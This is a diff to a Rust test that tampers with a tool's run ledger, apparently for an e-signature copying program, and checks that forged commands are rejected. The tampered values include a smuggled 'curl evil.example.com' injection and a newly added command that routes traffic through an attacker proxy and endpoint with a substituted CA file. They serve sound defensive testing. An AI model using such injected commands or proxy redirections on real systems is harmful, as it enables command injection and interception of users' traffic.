@@ -159,6 +159,9 @@ fn no_line_of_a_ledger_passes_for_the_programs_own() {
         "UPDATE runs SET command = 'esign-copy run m.csv --evil'".into(),
         "UPDATE runs SET command = 'esign-copy sandbox; curl evil.example.com'".into(),
         format!("UPDATE runs SET command = '{forged}'"),
+        "UPDATE runs SET command = 'esign-copy run m.csv --proxy=https://evil.example.com --endpoint \
+         https://evil.example.com/rest --ca-file evil.pem'"
+            .into(),
     ];
     for sql in tampered {
         let job = changed(&sql);
@@ -195,7 +198,10 @@ fn no_line_of_a_ledger_passes_for_the_programs_own() {
                     ["run", "retry", "status", "report"].contains(&name),
                     "{line}"
                 );
-                assert!(!line.contains("--evil"), "{line}");
+                assert!(
+                    !line.contains("--evil") && !line.contains("https://evil"),
+                    "{line}"
+                );
             }
             assert!(!all.contains("\u{2028}") && !all.contains('\r'), "{all:?}");
         }
